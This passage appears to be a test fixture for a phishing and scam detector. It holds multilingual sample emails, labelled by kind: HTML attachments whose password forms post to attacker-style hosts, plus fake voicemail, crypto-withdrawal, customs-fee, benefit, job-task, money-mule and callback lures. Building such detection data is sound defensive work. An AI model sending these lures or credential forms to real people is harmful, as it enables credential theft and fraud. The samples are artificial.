          content: `<html><body style="background:url(data:image/png;base64,iVBORw0KGgo=)"><form action="https://zahlungsavis-service.de/p.php" method="post"><p>Sitzung abgelaufen. Bitte melden Sie sich erneut an.</p><input name="e" value="maya.okafor@ferrow.io"><input type="password" name="p"><button>Anmelden</button></form></body></html>`,
        },
      ],
      auth: own("zahlungsavis-service.de", "185.196.8.77"),
    },
    label: phish(
      "German remittance-advice HTML attachment that is a local password form posting to the attacker",
      "de",
    ),
  },
  {
    spec: {
      org: "x-s1b-html-attachment",
      name: "fattura-html-it",
      persona: "elena",
      from: "Ufficio Amministrazione <amministrazione@ediz-scientifiche-roma.it>",
      subject: "Fattura n. 2211/2026 – contributo di pubblicazione",
      date: "2026-11-19T12:12:12+01:00",
      text: `Gentile Dott.ssa Ruiz Arnaiz,

in allegato la fattura relativa al contributo di pubblicazione. Per visualizzarla apra il file allegato e acceda con le credenziali istituzionali.

Cordiali saluti
Ufficio Amministrazione`,
      attachments: [
        {
          filename: "Fattura_2211-2026.pdf.html",
          type: "text/html",
          content: `<html><head><title>Adobe Document Cloud</title></head><body><p>Per visualizzare il documento inserisca la password della sua email.</p><form action="https://ediz-scientifiche-roma.it/wp-content/f.php"><input name="email"><input name="pw" type="password"></form></body></html>`,
        },
      ],
      auth: relay("mailjet-relay.biz", "5.252.178.9"),
    },
    label: phish(
      "Italian invoice lure with a double-extension .pdf.html attachment that asks for the mailbox password",
      "it",
    ),
  },
  // ---- shared-drive "voice message" ----
  {
    spec: {
      org: "x-s1b-voice-message",
      name: "voicemail-en",
      persona: "maya",
      from: "Voice Mail Service <voicemail@ferrow-io.voicemailbox.cloud>",
      subject: "New voice message from +49 30 2201 884 (0:47)",
      date: "2026-11-24T17:03:51+01:00",
      html: `<p>You have received a new voice message.</p><table><tr><td>From:</td><td>+49 30 2201 884</td></tr><tr><td>Duration:</td><td>00:47</td></tr><tr><td>Received:</td><td>24.11.2026 17:02</td></tr></table><p>The recording has been saved to your shared drive.</p><p><a href="https://ferrow-io.voicemailbox.cloud/play?m=maya.okafor%40ferrow.io">▶ Listen to message</a></p>`,
      auth: own("voicemailbox.cloud", "154.38.160.12"),
    },
    label: phish(
      "voicemail phishing: a 'new voice message' on a shared drive whose play button leads to a login page prefilled with the reader's address",
      "en",
    ),
  },
  {
    spec: {
      org: "x-s1b-voice-message",
      name: "sprachnachricht-de",
      persona: "maya",
      from: "OneDrive <no-reply@onedrive-sprachnachricht.com>",
      subject: "Sprachnachricht für maya.okafor@ferrow.io (1 neue Datei)",
      date: "2026-11-18T12:48:26+01:00",
      text: `Eine Sprachnachricht wurde in Ihrem freigegebenen Ordner gespeichert.

Audio_Nachricht_181126.wav (1,2 MB)

Wiedergeben: https://onedrive-sprachnachricht.com/wav/181126

Diese Nachricht wurde automatisch gesendet.`,
      auth: own("onedrive-sprachnachricht.com", "147.45.47.20"),
    },
    label: phish("German voice-message lure posing as a OneDrive shared-folder notice", "de"),
  },
  // ---- crypto / investment ----
  {
    spec: {
      org: "x-s1b-crypto-invest",
      name: "exchange-withdrawal-en",
      persona: "kenji",
      from: "Binance <do-not-reply@binance-security-center.com>",
      subject: "[Binance] Withdrawal request of 0.4821 BTC – confirm or cancel",
      date: "2026-11-21T01:33:09+00:00",
      html: `<div style="font-family:Arial;background:#181a20;color:#eaecef;padding:16px"><p>A withdrawal of <b>0.4821 BTC</b> to bc1q9x…7ke4 was requested from your account from IP 185.220.101.4 (Germany).</p><p>If this was not you, cancel it immediately and secure your account:</p><p><a href="https://binance-security-center.com/cancel" style="background:#fcd535;color:#000;padding:8px 16px">Cancel withdrawal</a></p></div>`,
      auth: own("binance-security-center.com", "193.3.19.170"),
    },
    label: phish(
      "crypto-exchange phishing: a fake withdrawal alert whose 'cancel' button harvests the exchange login and 2FA",
      "en",
    ),
  },
  {
    spec: {
      org: "x-s1b-crypto-invest",
      name: "etf-rendite-de",
      persona: "maya",
      from: "Dr. Markus Feld | Vermögensberatung <m.feld@feld-capital-partners.com>",
      subject: "Exklusiv: KI-Handelsfonds mit 11 % Monatsrendite – nur noch 3 Plätze",
      date: "2026-11-17T11:00:00+01:00",
      text: `Sehr geehrte Frau Okafor,

als Führungskraft in der Technologiebranche laden wir Sie in unseren KI-gestützten Handelsfonds ein. Unsere Anleger erzielen seit 2024 durchschnittlich 11 % pro Monat, garantiert durch einen Einlagensicherungsfonds.

Mindestanlage 2.500 €. Es sind nur noch 3 Plätze frei; Ihr persönlicher Berater ruft Sie morgen an.

Mit freundlichen Grüßen
Dr. Markus Feld`,
      auth: own("feld-capital-partners.com", "82.221.131.5"),
    },
    label: scam(
      "German investment scam: 'guaranteed' 11 % a month from an AI trading fund, false scarcity",
      "de",
    ),
  },
  // ---- customs fees ----
  {
    spec: {
      org: "x-s1b-customs-fee",
      name: "clo-inpakiet-pl",
      persona: "maya",
      from: "Krajowa Administracja Skarbowa <clo@kas-odprawa-celna.pl>",
      subject: "Przesyłka zatrzymana w urzędzie celnym – opłata 12,30 zł",
      date: "2026-11-22T09:09:09+01:00",
      text: `Dzień dobry,

Twoja przesyłka z Chin została zatrzymana do odprawy celnej. Aby ją zwolnić, uiść opłatę celną w wysokości 12,30 zł w ciągu 48 godzin. Po tym terminie przesyłka zostanie zniszczona.

Opłać: https://kas-odprawa-celna.pl/oplata

Krajowa Administracja Skarbowa`,
      auth: own("kas-odprawa-celna.pl", "94.156.64.22"),
    },
    label: phish(
      "Polish customs-fee phishing impersonating the tax administration, threat to destroy the parcel",
      "pl",
    ),
  },
  {
    spec: {
      org: "x-s1b-customs-fee",
      name: "sdogana-it",
      persona: "elena",
      from: "BRT Corriere Espresso <tracking@brt-spedizioni-info.com>",
      subject: "Spedizione in giacenza: dazi doganali da pagare (1,89 €)",
      date: "2026-11-25T14:14:52+01:00",
      html: `<p>Gentile cliente,</p><p>la sua spedizione <b>084729113</b> è in giacenza presso il nostro deposito di Fiumicino in attesa del pagamento dei dazi doganali (<b>1,89 €</b>).</p><p><a href="https://brt-spedizioni-info.com/dazi?id=084729113">Paga e programma la consegna</a></p>`,
      auth: relay("mailout-service.top", "45.83.122.18"),
    },
    label: phish("Italian courier customs-fee phishing through a bulk relay with a tiny duty amount", "it"),
  },
  // ---- job task scams ----
  {
    spec: {
      org: "x-s1b-job-task",
      name: "trabajo-tareas-es",
      persona: "elena",
      from: "Laura Gómez - RRHH <laura.gomez.rrhh@gmail.com>",
      subject: "Oferta: trabajo desde casa 1 h/día, 80–300 € diarios",
      date: "2026-11-23T20:05:44+01:00",
      text: `Hola Elena,

Hemos visto tu perfil en LinkedIn. Buscamos colaboradores para optimizar productos de una plataforma de comercio electrónico: solo hay que completar 40 tareas al día desde el móvil. Se paga de 80 a 300 € al día.

Para empezar, contacta a mi compañera por WhatsApp: +34 611 000 829. Algunas tareas "combinadas" requieren recargar saldo, que se devuelve con la comisión.

Un saludo,
Laura`,
      auth: free("laura.gomez.rrhh@gmail.com", "209.85.220.41"),
    },
    label: scam(
      "Spanish job task scam: daily pay for 'optimising products', WhatsApp contact and deposits for 'combined tasks'",
      "es",
    ),
  },
  {
    spec: {
      org: "x-s1b-job-task",
      name: "nebenjob-bewertung-de",
      persona: "maya",
      from: "Personalvermittlung Kranz <bewerbung@kranz-personal-jobs.de>",
      subject: "Ihre Bewerbung: Produkttester im Homeoffice (bis 2.400 €/Monat)",
      date: "2026-11-16T09:48:01+01:00",
      text: `Sehr geehrte Frau Okafor,

vielen Dank für Ihr Interesse. Als Produkttesterin bewerten Sie Hotels und Apps online und erhalten bis zu 2.400 € im Monat.

Für die Einrichtung Ihres Kontos eröffnen Sie bitte mit Ihrem Ausweis per Video-Ident ein Testkonto bei unserer Partnerbank. Den Link dazu erhalten Sie per SMS.

Mit freundlichen Grüßen
Personalvermittlung Kranz`,
      auth: own("kranz-personal-jobs.de", "185.244.36.89"),
    },
    label: scam(
      "German fake job for an application never sent: 'product tester' asked to open a bank account by video-ident (money-mule recruitment)",
      "de",
    ),
  },
  // ---- more of the missed families ----
  {
    spec: {
      org: "x-s1b-gov-fines",
      name: "nenkin-kyufu-ja",
      persona: "kenji",
      from: "デジタル庁 給付金事務局 <kyufu@digital-go-kyufukin.jp>",
      subject: "【デジタル庁】物価高騰対策給付金（5万円）受取手続きのご案内",
      date: "2026-11-25T12:00:00+09:00",
      text: `佐藤 健二 様

物価高騰対策給付金（1世帯あたり5万円）の受取手続きが完了していません。

12月1日までに下記URLからマイナンバーカード情報と振込先口座を登録してください。期限を過ぎると受け取れなくなります。

https://digital-go-kyufukin.jp/uketori

デジタル庁 給付金事務局`,
      auth: own("digital-go-kyufukin.jp", "103.79.77.14"),
    },
    label: phish(
      "Japanese government-benefit phishing asking for My Number card data and a bank account to receive a relief payment",
      "ja",
    ),
  },
  {
    spec: {
      org: "x-s1b-docshare-contact",
      name: "dropbox-transfer-fr",
      persona: "lucas",
      from: "Chloé Bernard <chloe.bernard@bernard-paysage.fr>",
      subject: "Plans révisés – jardin Croix-Rousse (fichiers volumineux)",
      date: "2026-11-25T17:36:20+01:00",
      text: `Bonjour Lucas,

Je t'envoie les plans révisés du jardin, les fichiers sont trop lourds pour un mail :

https://bernard-paysage.transfert-fichiers.app/d/plans-revises

Tu devras te connecter avec ton adresse mail pour les télécharger.

Bonne soirée,
Chloé`,
      auth: hijacked("chloe.bernard@bernard-paysage.fr", "213.186.33.5", "mo550.mail-out.ovh.net"),
    },
    label: phish(
      "French 'large files' link from a landscape designer's hijacked OVH mailbox to a transfer look-alike that asks the reader's mail login",
      "fr",
      "primary",
      PRIMARY,
    ),
  },
  {
    spec: {
      org: "x-s1b-tech-support",
      name: "geek-renewal-pt",
      persona: "lucas",
      from: "Serviço de Faturação <faturacao.suporte.pt@gmail.com>",
      subject: "Confirmação de pagamento – Proteção Total Antivírus 289,90 €",
      date: "2026-11-19T18:22:48+00:00",
      text: `Caro cliente,

A sua subscrição anual do Proteção Total Antivírus foi renovada automaticamente. Foram debitados 289,90 € no seu cartão.

Se não reconhece esta compra, ligue nas próximas 24 horas para o nosso centro de reembolsos: +351 300 000 512.

Serviço de Faturação`,
      auth: free("faturacao.suporte.pt@gmail.com", "209.85.220.65"),
    },
    label: scam(
      "Portuguese callback scam: an antivirus 'renewal' from Gmail with a refund phone number",
      "pt",
      "receipt",
    ),
  },
];

writeThreatLabels("x-s1b-", entries);
